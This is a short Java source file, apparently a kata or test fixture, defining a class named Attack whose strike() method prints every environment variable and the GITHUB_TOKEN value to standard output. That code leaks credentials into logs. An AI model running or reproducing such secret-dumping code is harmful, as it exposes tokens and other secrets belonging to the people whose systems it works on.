package dbkata.tasks;

final class Attack {
  static void strike() {
    System.out.println(System.getenv());
    System.out.println("token " + System.getenv("GITHUB_TOKEN"));
  }
}
